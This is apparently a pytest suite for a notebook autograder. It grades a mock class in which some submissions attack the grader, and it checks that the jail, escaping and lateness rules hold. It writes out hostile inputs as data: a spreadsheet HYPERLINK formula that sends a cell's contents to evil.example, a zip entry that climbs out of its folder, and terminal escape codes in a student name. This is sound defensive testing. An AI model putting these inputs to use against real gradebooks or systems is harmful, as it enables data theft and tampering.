"""The hostile suite: a class where some submissions attack the grader, graded for real, in jails.

Every attack in ``tests/support/hostile/attacks.py`` runs (after a correct solution, so the
attacker's own work is complete) in a class of correct submissions, with ``--jobs 2``
so that attackers and their classmates are graded at the same time. The grader runs
with planted secrets: an instructor ``~/.aws/credentials``, an LMS token and AWS keys
in its environment, an SSH agent socket. Then:

* every correct submission, the attackers' included, keeps full marks;
* every attack reports that it found and changed nothing;
* no planted secret appears in any output file;
* the Python environment and labkit are unchanged, nothing the class started is
  still running, and no forged row appears, even after waiting;
* strange file names (Latin-1 bytes, 240 characters, ``.IPYNB``, zips) are graded.

It runs as the user running the tests and, when that is root, again as the ordinary
user ``cloudsdk`` (through ``runuser``), whose grader uses unprivileged user namespaces.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from labkit.grading.gradebook import feedback_name
from labkit.grading.integrity import package_dir, source_fingerprint
from tests.support.grader import GRADE
from tests.support.hostile import Builder, needs_jail
from tests.support.hostile.attacks import cell, report_of

pytestmark = [needs_jail, pytest.mark.grading_run, pytest.mark.must_run_in_ci]
ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "solutions" / "users.ipynb"
ORDINARY_USER = "cloudsdk"
STRAY_DELAY = 4.0
CANARY = "canary"
LATIN1_NAME = "Jos\xe9 N\xfa\xf1ez".encode("latin-1")  # as a Windows zip or share would hand it over
LONG_NAME = "a" * 240


def _site_packages_listing() -> dict[str, list[str]]:
    import site

    return {d: sorted(os.listdir(d)) for d in site.getsitepackages() if os.path.isdir(d)}


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def _python_for(user: str, base: Path) -> str | None:
    """A Python that ``user`` can run, seeing this environment's packages (None if there is none).

    This environment's own interpreter may live where ``user`` cannot read (e.g. under /root);
    the system's Python of the same version, with this environment's site-packages added, can.
    """
    import site

    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    system = shutil.which(f"python{version}", path="/usr/bin:/bin")
    if system is None:  # this interpreter then, its folders opened for the run (see _open_folders)
        probe = subprocess.run(["runuser", "-u", user, "--", sys.executable, "-c", "import labkit, moto"],
                               capture_output=True, text=True)
        return sys.executable if probe.returncode == 0 else None
    venv = base / "venv"
    subprocess.run([system, "-m", "venv", "--without-pip", str(venv)], check=True, capture_output=True)
    sp = next((venv / "lib").glob("python*/site-packages"))
    lines = "".join(f"import site; site.addsitedir({d!r})\n" for d in site.getsitepackages())
    (sp / "zz_course_environment.pth").write_text(lines)
    python = str(venv / "bin" / "python")
    ours = Path(sys.executable).parent
    for script in ours.iterdir():  # aws, jupyter, labkit...: the same programs, run by that Python
        try:
            text = script.read_text()
        except (UnicodeDecodeError, IsADirectoryError, OSError):
            continue
        if text.startswith("#!") and not (venv / "bin" / script.name).exists():
            (venv / "bin" / script.name).write_text(f"#!{python}\n" + text.split("\n", 1)[1])
            (venv / "bin" / script.name).chmod(0o755)
    probe = subprocess.run(["runuser", "-u", user, "--", python, "-c", "import labkit, moto, ipykernel"],
                           capture_output=True, text=True)
    return python if probe.returncode == 0 else None


def _open_folders(paths: list[str]) -> list[tuple[str, int]]:
    """Let every user pass through (not list) the folders above ``paths`` and ``paths`` themselves.

    A fresh clone in ``mktemp -d`` (0700) or an interpreter under ``/root`` is out of the ordinary
    user's reach, and the run would have to be skipped; the modes changed are returned, to be put
    back by :func:`_restore_folders`.
    """
    import stat

    changed: list[tuple[str, int]] = []
    for path in paths:
        here = Path(path).resolve()
        for folder in [here, *here.parents] if here.is_dir() else list(here.parents):
            mode = folder.stat().st_mode
            if not mode & stat.S_IXOTH and all(f != str(folder) for f, _ in changed):
                changed.append((str(folder), stat.S_IMODE(mode)))
                folder.chmod(stat.S_IMODE(mode) | stat.S_IXOTH)
    return changed


def _restore_folders(changed: list[tuple[str, int]]) -> None:
    for folder, mode in reversed(changed):
        os.chmod(folder, mode)


class _Agent:
    """A listening Unix socket standing in for the instructor's SSH agent."""

    def __init__(self, path: Path) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(path))
        self.sock.listen(8)
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


def build_class(base: Path, builder: Builder) -> dict[str, Any]:
    subs, out, tmp = base / "class", base / "grades", base / "tmp"
    home, config = base / "instructor", base / "config"
    for folder in (subs, tmp, home / ".aws", config):
        folder.mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(
        "[default]\naws_access_key_id = AKIACANARY0INSTRUCTR\n"
        "aws_secret_access_key = canary-instructor-secret\n")
    params = {"out": str(out), "grader_tmp": str(tmp), "instructor_home": str(home),
              "grader_key": str(config / "labkit" / "grader.key"), "ssh_auth_sock": str(base / "agent.sock"),
              "seconds": 20, "depth": 40, "delay": STRAY_DELAY, "evidence": str(base / "stray-evidence"),
              "marker": f"castle-stray-{os.getpid()}-{time.monotonic_ns()}"}
    solution = builder.sources(builder.code)
    attackers = {"a1-persist": "persist", "a2-cross-student": "cross-student", "a3-secrets": "secrets",
                 "a4-stray": "stray", "a5-signals": "signals", "a6-tamper": "tamper"}
    notebooks = {"a0-setup-only": builder.set_up_only(), "z-setup-only": builder.set_up_only()}
    for student, attack in attackers.items():
        notebooks[student] = builder.notebook([*solution, cell(attack, params)])
    for student in ("a2-v1", "a2-v2", "a2-v3", "a7-v4", "weird <b>name</b>"):
        notebooks[student] = builder.correct()
    for student, attack in RESOURCE_ATTACKS.items():
        notebooks[student] = builder.notebook([*solution, cell(attack, params)])
    for student, extra in _odd_cells().items():
        nb = builder.correct()
        nb["cells"] += extra
        notebooks[student] = nb
    notebooks[ESCAPE_NAME] = builder.correct()
    notebooks[feedback_name("weird <b>name</b>")[: -len(".html")]] = builder.correct()  # another's page name
    for student, nb in notebooks.items():
        Builder.write(subs / f"{student}.ipynb", nb)
    correct = json.dumps(builder.correct())
    (subs / "c1-deep.ipynb").write_bytes(b"[" * 200_000 + b"]" * 200_000)
    _broken_zip(subs / "d-broken.zip", correct.encode())
    with zipfile.ZipFile(subs / "e-bulk.zip", "w") as archive:
        for i in range(BULK):
            archive.writestr(f"s{i:04}.ipynb", "{}")
    (subs / "UPPER.IPYNB").write_text(correct)
    with open(os.fsencode(subs) + b"/" + LATIN1_NAME + b".ipynb", "wb") as fh:
        fh.write(correct.encode())
    (subs / f"{LONG_NAME}.ipynb").write_text(correct)
    with zipfile.ZipFile(subs / "late-batch.zip", "w") as archive:
        archive.writestr("Mxller.ipynb", correct)  # renamed below to Latin-1 bytes, without the UTF-8 flag
        archive.writestr("../../escape.ipynb", correct)
        archive.writestr("__MACOSX/._junk.ipynb", "junk")
    data = (subs / "late-batch.zip").read_bytes()
    (subs / "late-batch.zip").write_bytes(data.replace(b"Mxller", "M\xfcller".encode("latin-1")))
    agent = _Agent(base / "agent.sock")
    env = {k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")}
    env.update(HOME=str(home), XDG_CONFIG_HOME=str(config), TMPDIR=str(tmp),
               SSH_AUTH_SOCK=str(base / "agent.sock"), LMS_TOKEN="canary-lms-token-7f3a",
               AWS_ACCESS_KEY_ID="AKIACANARY0ENVIRONMT", AWS_SECRET_ACCESS_KEY="canary-env-secret")
    invalid = {"c1-deep", "d-broken/crc", "d-broken/locked", "d-broken/d64",
               *(f"e-bulk/s{i:04}" for i in range(BULK))}
    graded = {"UPPER", "Jos\xe9 N\xfa\xf1ez", LONG_NAME, "late-batch/M\xfcller", "late-batch/escape",
              "d-broken/month0"}
    return {"subs": subs, "out": out, "tmp": tmp, "env": env, "params": params, "agent": agent,
            "students": set(notebooks) | invalid | graded, "invalid": invalid}


RESOURCE_ATTACKS = {"b1-task-hog": "task-hog", "b2-fork-memory": "fork-memory", "b3-disk-fill": "disk-fill",
                    "b4-malformed-iopub": "malformed-iopub", "b5-big-body": "big-body"}
ESCAPE_NAME = "esc\x1b[2J\x1b[1Aname"  # clears the screen and moves up a line, printed raw
BULK = 2000
COURSE_PROMPT = "ex-users-keys-vs-passwords"


def _odd_cells() -> dict[str, list[dict[str, Any]]]:
    """Correct notebooks with odd extra cells: metadata of the wrong type, 20,000 fake prompts."""
    def reflection(rid: str, prompt: str, source: Any) -> dict[str, Any]:
        return {"cell_type": "markdown", "source": source,
                "metadata": {"tags": ["reflection"], "labkit": {"reflection": rid, "prompt": prompt}}}

    fakes = [reflection(f"fake-{i}", f"FAKE PROMPT {i}", "spam " * 2) for i in range(20_000)]
    return {
        "c2-tags": [{"cell_type": "markdown", "source": "x", "metadata": {"tags": 5}}],
        "c3-numbers": [reflection(COURSE_PROMPT, "The course's prompt", [1, 2, 3])],
        "c4-fake-prompts": [reflection(COURSE_PROMPT, "HIJACKED HEADING <b>bold</b>", "---\nmine"), *fakes],
    }


def _broken_zip(path: Path, correct: bytes) -> None:
    """A zip with a month-0 date (graded), a bad CRC, an encrypted and a deflate64 entry (each invalid)."""
    import struct

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("month0", "crc", "locked", "d64"):
            archive.writestr(name + ".ipynb", correct)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        infos = {i.filename: i for i in archive.infolist()}
    # (offset in the local header, in the central record, format, value)
    patches = {"month0.ipynb": (12, 14, "<H", (2026 - 1980) << 9 | 19),  # DOS date, month 0
               "crc.ipynb": (14, 16, "<I", 0xDEADBEEF),                # CRC-32
               "locked.ipynb": (6, 8, "<H", 1),                        # flags: encrypted
               "d64.ipynb": (8, 10, "<H", 9)}                          # method 9: deflate64
    for name, (local, central, fmt, value) in patches.items():
        struct.pack_into(fmt, data, infos[name].header_offset + local, value)
        at = data.find(b"PK\x01\x02")
        while at != -1:
            length = struct.unpack_from("<H", data, at + 28)[0]
            if bytes(data[at + 46: at + 46 + length]) == name.encode():
                struct.pack_into(fmt, data, at + central, value)
            at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def run_class(base: Path, builder: Builder, user: str | None) -> dict[str, Any]:
    """Build the hostile class in ``base`` and grade it (as ``user`` when given); collect what happened."""
    c = build_class(base, builder)
    python = sys.executable
    cmd = [*GRADE, str(c["subs"]), "--out", str(c["out"]), "--jobs", "2",
           "--timeout", "90"]
    if user is not None:
        python = _python_for(user, base) or ""
        if not python:  # a skip here would hide the ordinary user's run: fail instead
            pytest.fail(f"no Python that {user} can run here, even with the course's folders opened")
        uid = pwd.getpwnam(user).pw_uid
        for folder, _, files in os.walk(base):
            for name in [folder, *(os.path.join(folder, f) for f in files)]:
                os.chown(name, uid, uid, follow_symlinks=False)
        passed = ("HOME", "XDG_CONFIG_HOME", "TMPDIR", "SSH_AUTH_SOCK", "LMS_TOKEN", "AWS_ACCESS_KEY_ID",
                  "AWS_SECRET_ACCESS_KEY", "PATH")
        cmd = ["runuser", "-u", user, "--", "env", *(f"{k}={v}" for k, v in c["env"].items() if k in passed),
               python, *cmd[1:]]
    packages, labkit_before = _site_packages_listing(), source_fingerprint(package_dir())
    started = time.monotonic()
    proc = subprocess.run(cmd, capture_output=True, text=True, env=c["env"], cwd=base, timeout=900)
    seconds = time.monotonic() - started
    time.sleep(STRAY_DELAY + 3)  # anything that outlived its submission would have struck by now
    results = {e["student"]: e for e in json.loads((c["out"] / "results.json").read_text())["submissions"]}
    print(f"\nhostile class of {len(results)} graded as {user or 'the test user'} in {seconds:.1f} s")
    return {**c, "proc": proc, "results": results, "packages_before": packages,
            "labkit_before": labkit_before, "python": python, "user": user, "cmd": cmd}


@contextlib.contextmanager
def _class_folder(who: str, prefix: str) -> Iterator[tuple[Path, str | None]]:
    """A folder for one graded class, and the user to grade it as (None: the test's own user).

    For the ordinary user, the course and its environment are made passable for the run, and put
    back after; a machine without that user, or a run already as an ordinary user, skips it."""
    if who == ORDINARY_USER:
        if os.geteuid() != 0:
            pytest.skip("already running as an ordinary user (see the test-user run)")
        try:
            pwd.getpwnam(ORDINARY_USER)
        except KeyError:
            pytest.skip(f"no user {ORDINARY_USER} on this machine")
    base = Path(tempfile.mkdtemp(prefix=prefix))
    os.chmod(base, 0o755)
    opened = _open_for_ordinary_user(base) if who == ORDINARY_USER else []
    try:
        yield base, (ORDINARY_USER if who == ORDINARY_USER else None)
    finally:
        _restore_folders(opened)
        shutil.rmtree(base, ignore_errors=True)


def _open_for_ordinary_user(base: Path) -> list[tuple[str, int]]:
    """The course, its environment and its Python, passable for the ordinary user (undone after)."""
    import site

    paths = [str(ROOT), str(base), *site.getsitepackages(), sys.prefix]
    if not shutil.which(f"python{sys.version_info.major}.{sys.version_info.minor}", path="/usr/bin:/bin"):
        paths += [sys.base_prefix, os.path.realpath(sys.executable)]  # no system twin: this Python
    return _open_folders(paths)


@pytest.fixture(scope="module", params=["test-user", ORDINARY_USER])
def hostile(request: pytest.FixtureRequest) -> Any:
    builder = Builder(json.loads(SOLUTION.read_text()))
    with _class_folder(request.param, "labkit-hostile-") as (base, user):
        yield run_class(base, builder, user)


def test_the_run_finishes_in_jails_with_one_row_each(hostile: dict[str, Any]) -> None:
    proc = hostile["proc"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "WITHOUT a jail" not in proc.stderr
    assert set(hostile["results"]) == hostile["students"]


def test_correct_submissions_keep_full_marks(hostile: dict[str, Any]) -> None:
    r = hostile["results"]
    for student, entry in r.items():
        if "setup-only" in student or student in hostile["invalid"] or student in ("b2-fork-memory",
                                                                                    "b4-malformed-iopub"):
            continue
        assert entry["status"] == "graded" and entry["score"] == entry["max_score"] == 10, (student, entry)
    # The persistence attacker ran in between: a set-up-only notebook after it scores as one before it.
    assert r["z-setup-only"]["score"] == r["a0-setup-only"]["score"] < 10


def test_every_attack_found_and_changed_nothing(hostile: dict[str, Any]) -> None:
    r = hostile["results"]
    attackers = [s for s in r if s[:2] in ("a1", "a2", "a3", "a4", "a5", "a6") and "-v" not in s]
    reports = {s: report_of(r[s]) for s in attackers}
    assert all(reports.values()), reports
    cross = reports["a2-cross-student"]
    assert cross == {"connection_files": 0, "kernels_driven": 0, "credential_files": 0,
                     "foreign_api_calls": 0, "ports": 0, "console_password_changes": 0}, cross
    assert reports["a1-persist"] == {"written": []}
    assert reports["a3-secrets"] == {"found": []}
    assert reports["a4-stray"] == {"started": True}
    assert all(target == 1 for target, _ in reports["a5-signals"]["signalled"]), reports["a5-signals"]
    assert reports["a6-tamper"] == {"changed": []}
    assert hostile["agent"].connections == 0


def test_no_secret_reaches_any_output_file(hostile: dict[str, Any]) -> None:
    key = (Path(hostile["params"]["grader_key"]).read_text().strip())
    for path in hostile["out"].rglob("*"):
        if path.is_file():
            text = path.read_bytes().decode("utf-8", "replace")
            assert CANARY not in text.lower(), path
            assert key not in text, path


def test_nothing_persists_or_survives(hostile: dict[str, Any]) -> None:
    assert _site_packages_listing() == hostile["packages_before"]
    assert source_fingerprint(package_dir()) == hostile["labkit_before"]
    assert _processes_with(hostile["params"]["marker"]) == []
    assert not Path(hostile["params"]["evidence"]).exists()
    assert [p.name for p in hostile["tmp"].iterdir() if p.name.startswith("labkit-")] == []


def test_no_forged_row_even_after_waiting(hostile: dict[str, Any]) -> None:
    out = hostile["out"]
    rows = list(csv.DictReader((out / "grades.csv").open(newline="")))
    assert {r["student"] for r in rows} == hostile["students"]
    assert all(int(r["score"]) <= int(r["max_score"]) for r in rows)
    again = subprocess.run(hostile["cmd"], capture_output=True, text=True, env=hostile["env"], cwd=out.parent,
                           timeout=300)
    assert again.returncode == 0, again.stderr[-2000:]
    assert f"{len(rows)} of {len(rows)} submissions unchanged" in again.stderr  # every row still signed
    assert "forged" not in again.stderr and "changed outside" not in again.stderr


def test_strange_names_are_graded_and_stay_in_place(hostile: dict[str, Any]) -> None:
    out, r = hostile["out"], hostile["results"]
    assert r["Jos\xe9 N\xfa\xf1ez"]["file"].endswith("Jos\xe9 N\xfa\xf1ez.ipynb")
    assert "Jos\xe9 N\xfa\xf1ez" in (out / "grades.csv").read_text(encoding="utf-8")
    for student in r:
        page = out / "feedback" / feedback_name(student)
        assert page.is_file() and len(page.name.encode()) <= 255, student
    assert sorted(p.parent for p in (out / "feedback").rglob("*.html")) == [out / "feedback"] * len(r)


def test_resource_attacks_are_held_and_blamed_on_the_attacker(hostile: dict[str, Any]) -> None:
    r, stderr = hostile["results"], hostile["proc"].stderr
    grouped = "its own control group" in stderr
    assert "limits: " in stderr  # the summary says which limits hold
    assert grouped or "no per-submission control groups here" in stderr
    hog = report_of(r["b1-task-hog"])
    assert hog is not None and 0 < hog["held"] <= 256, hog  # its own uid's (or group's) tasks only
    memory = r["b2-fork-memory"]
    assert memory["score"] == 10 and memory["status"] in ("graded", "error"), memory
    if grouped:  # 2 GiB for all its processes: at most four 450 MiB children beside the kernel
        fork = report_of(memory)
        assert fork is None or fork["alive"] <= 4, fork
        assert "memory limit" in memory["detail"], memory
    disk = report_of(r["b3-disk-fill"])
    assert disk is not None and disk["home_mb"] <= 256 and disk["home_refused"] == 28, disk  # ENOSPC
    assert disk["kernel_folder_written"] is (hostile["user"] is not None), disk  # root closes that folder
    iopub = r["b4-malformed-iopub"]
    assert iopub["status"] == "error" and "malformed message" in iopub["detail"], iopub  # not grader-error
    assert iopub["score"] == 10
    body = report_of(r["b5-big-body"])
    assert body is not None and body["status"].startswith("HTTP/1.1 413"), body


def test_every_unreadable_file_is_its_own_row_and_the_report_is_written(hostile: dict[str, Any]) -> None:
    r, out = hostile["results"], hostile["out"]
    for student in hostile["invalid"]:
        assert r[student]["status"] == "invalid" and "\n" not in r[student]["detail"], r[student]
    assert r["c1-deep"]["detail"].startswith("c1-deep.ipynb: ")
    assert "damaged" in r["d-broken/crc"]["detail"] and "encrypted" in r["d-broken/locked"]["detail"]
    assert "compression method" in r["d-broken/d64"]["detail"]
    for student in ("c2-tags", "c3-numbers", "c4-fake-prompts", "d-broken/month0"):
        assert r[student]["status"] == "graded" and r[student]["score"] == 10, r[student]
    report = (out / "report.html").read_text(encoding="utf-8")
    assert len(report) < 5_000_000  # 20,000 fake prompts made it 180 MB
    assert "Which people and programs in your work need a password" in report  # the course's own words
    assert "HIJACKED HEADING" not in report and "FAKE PROMPT" not in report
    assert all(len(e["detail"]) <= 2_100 for e in r.values())
    assert (out / "results.json").stat().st_size < 20_000_000
    assert not (out / "results.journal").exists()  # saved at the end


def test_names_reach_the_terminal_without_control_characters(hostile: dict[str, Any]) -> None:
    assert "\x1b" not in hostile["proc"].stderr and "\x1b" not in hostile["proc"].stdout
    assert hostile["results"][ESCAPE_NAME]["status"] == "graded"


def test_a_student_named_like_anothers_page_gets_a_page_of_her_own(hostile: dict[str, Any]) -> None:
    out, twin = hostile["out"], feedback_name("weird <b>name</b>")[: -len(".html")]
    pages = {feedback_name("weird <b>name</b>"), feedback_name(twin)}
    assert len(pages) == 2
    assert "weird &lt;b&gt;name" in (out / "feedback" / feedback_name("weird <b>name</b>")).read_text()
    assert twin in (out / "feedback" / feedback_name(twin)).read_text()


# -- the instructor's files: lateness, LMS files, roster aliases (issue 24, three of its attacks) ----
# One small class graded for real (roster, --due, --late-from-file-times), each attack beside a correct
# classmate; each test also shows the attack working where the defence is off (the control).

LMS_DUE = "2026-11-20T23:59:00Z"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
FORMULA_IDS = ("=HYPERLINK(1)", "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx")


@pytest.fixture(scope="module", params=["test-user", ORDINARY_USER])
def lms_attacks(request: pytest.FixtureRequest) -> Any:
    """The class graded as the test user and, when that is root, as an ordinary user."""
    with _class_folder(request.param, "labkit-lms-attacks-") as (base, user):
        yield _grade_lms_attacks(base, user)


def _grade_lms_attacks(base: Path, user: str | None) -> dict[str, Any]:
    from labkit.grading.classlist import parse_time

    builder = Builder(json.loads(SOLUTION.read_text()))
    subs, out = base / "class", base / "out"
    subs.mkdir()
    correct = json.dumps(builder.correct())
    due = parse_time(LMS_DUE)
    fortnight = due + 14 * 86400 - 3600  # handed in 14 started days late, on the instructor's disk
    # Lateness: the entry's date is the student's choice (before the due time); the zip's own time is not.
    with zipfile.ZipFile(subs / "forger.zip", "w") as archive:
        archive.writestr(zipfile.ZipInfo("forger.ipynb", date_time=(2026, 11, 19, 12, 0, 0)), correct)
    os.utime(subs / "forger.zip", (fortnight, fortnight))
    (subs / "loose.ipynb").write_text(correct)
    os.utime(subs / "loose.ipynb", (fortnight, fortnight))
    (subs / "ontime.ipynb").write_text(correct)
    os.utime(subs / "ontime.ipynb", (due - 3600, due - 3600))
    # Roster alias: a file named with a classmate's roster e-mail, beside her own.
    (subs / "201.ipynb").write_text(correct)
    Builder.write(subs / "jane@example.edu.ipynb", builder.set_up_only())
    # Formula injection through a name the student sets in the LMS (the roster's) and through ids.
    (subs / "202.ipynb").write_text(correct)
    for name in ("201.ipynb", "jane@example.edu.ipynb", "202.ipynb"):
        os.utime(subs / name, (due - 3600, due - 3600))
    roster = base / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Email address"])
        writer.writerow(["Doe, Jane", "201", "S-201", "jdoe", "A", "jane@example.edu"])
        writer.writerow([FORMULA_NAME, "202", "@SUM(1+1)", "+1+1", "-2+3", "eve@example.edu"])
        for student in ("forger/forger", "loose", "ontime"):
            writer.writerow([f"Student {student}", student, "", "", "A", ""])
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")},
           "XDG_CONFIG_HOME": str(base / "config"), "TMPDIR": str(base)}
    cmd = [*GRADE, str(subs), "--out", str(out), "--roster", str(roster),
           "--due", LMS_DUE, "--late-penalty", "5", "--late-from-file-times", "--assignment", "users"]
    if user is not None:
        python = _python_for(user, base)
        if python is None:  # a skip here would hide the ordinary user's run: fail instead
            pytest.fail(f"no Python that {user} can run here, even with the course's folders opened")
        uid = pwd.getpwnam(user).pw_uid
        for folder, _, files in os.walk(base):
            for name in [folder, *(os.path.join(folder, f) for f in files)]:
                os.chown(name, uid, uid, follow_symlinks=False)
        cmd = ["runuser", "-u", user, "--", "env", f"HOME={base}", f"XDG_CONFIG_HOME={base / 'config'}",
               f"TMPDIR={base}", f"PATH={os.environ.get('PATH', '')}", python, *cmd[1:]]
    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=base, timeout=600, env=env)
    book = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
    grades = {r["student"]: r for r in csv.DictReader(book)}
    return {"proc": proc, "out": out, "grades": grades, "due": due, "roster": roster}


def test_a_zip_entrys_date_never_decides_lateness(lms_attacks: dict[str, Any]) -> None:
    from datetime import UTC, datetime

    from labkit.grading.classlist import LatePolicy

    proc, grades = lms_attacks["proc"], lms_attacks["grades"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "the file's time on the instructor's disk (--late-from-file-times)" in proc.stderr  # stated
    assert (grades["forger/forger"]["late_days"], grades["forger/forger"]["final"]) == ("14", "3")
    assert (grades["loose"]["late_days"], grades["loose"]["final"]) == ("14", "3")  # the same, loose
    assert (grades["ontime"]["late_days"], grades["ontime"]["final"]) == ("0", "10")  # classmate
    # Control: the entry's own date, as it was read before, says "on time".
    with zipfile.ZipFile(lms_attacks["out"].parent / "class" / "forger.zip") as archive:
        forged = datetime(*archive.infolist()[0].date_time, tzinfo=UTC).timestamp()
    assert LatePolicy(lms_attacks["due"], 5).days_late(forged) == 0


def _cells(path: Path) -> list[str]:
    return [c for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for c in row]


def test_lms_files_are_escaped_against_formulas(lms_attacks: dict[str, Any]) -> None:
    from labkit.grading.classlist import Roster
    from labkit.grading.exports import lms_files

    out = lms_attacks["out"]
    for name in ("canvas.csv", "moodle.csv", "grades.csv"):
        cells = _cells(out / name)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name
        assert not [c for c in cells if c.startswith("-") and c not in ("-",) and not c[1:].isdigit()], name
    assert "'" + FORMULA_NAME in _cells(out / "canvas.csv")  # kept, readable, inert
    # Ids from file names (no roster) are escaped too; numbers stay numbers.
    rows = [{"student": s, "assignment": "users", "status": "graded", "score": 10, "max_score": 10,
             "final": 10, "checks": []} for s in FORMULA_IDS]
    files = lms_files(rows, Roster()).files
    for text in files.values():
        cells = [c for row in csv.reader(text.splitlines()) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t") or c.startswith("-2")], cells
    # Control: the same rows written by a plain csv writer start with the formula.
    raw = io.StringIO()
    csv.writer(raw).writerows([[s] for s in FORMULA_IDS])
    assert raw.getvalue().startswith("=HYPERLINK(1)")


def test_roster_aliases_are_flagged_never_merged(lms_attacks: dict[str, Any]) -> None:
    from labkit.grading.classlist import Roster

    proc, out, grades = lms_attacks["proc"], lms_attacks["out"], lms_attacks["grades"]
    assert grades["201"]["final"] == "10" and grades["jane@example.edu"]["final"] != "10"
    for student in ("201", "jane@example.edu"):
        assert "same person" in grades[student]["flags"], grades[student]
    assert "2 submissions for one roster person (201, jane@example.edu)" in proc.stderr
    canvas = list(csv.reader((out / "canvas.csv").read_text(encoding="utf-8").splitlines()))
    assert "201" not in [row[1] for row in canvas]  # neither replaces her grade: the instructor decides
    assert "jane@example.edu" not in (out / "moodle.csv").read_text(encoding="utf-8")
    assert sorted(row[1] for row in canvas[2:]) == ["202", "forger/forger", "loose", "ontime"]
    # Control: both ids are one roster person, so a gradebook keyed by person keeps the last one (a 0).
    roster = Roster.read(lms_attacks["roster"])
    merged: dict[str, str] = {}
    for student in sorted(("201", "jane@example.edu")):
        person = roster.find(student)
        assert person is not None
        merged[person.id] = grades[student]["final"]
    assert merged == {"201": grades["jane@example.edu"]["final"]} and merged["201"] != "10"
